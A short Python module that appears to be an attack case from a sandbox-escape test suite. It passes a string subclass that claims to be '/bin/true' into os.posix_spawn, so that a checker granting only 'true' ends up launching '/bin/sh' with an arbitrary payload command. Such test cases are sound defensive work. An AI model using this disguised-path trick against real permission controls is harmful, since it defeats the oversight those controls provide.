"""A program's path that says it is another one."""
CATEGORY = "races"
REACH = "run"
GRANT = {"run": ["true"]}

import os

from . import payload


class Path(str):
    encode = lambda self, *args: b"/bin/true"
    __str__ = __fspath__ = lambda self: "/bin/true"
    __eq__ = lambda self, other: other == "/bin/true"
    __hash__ = lambda self: hash("/bin/true")


def attack():
    os.posix_spawn(Path("/bin/sh"), ["true", "-c", payload.COMMAND], {})
    os.wait()
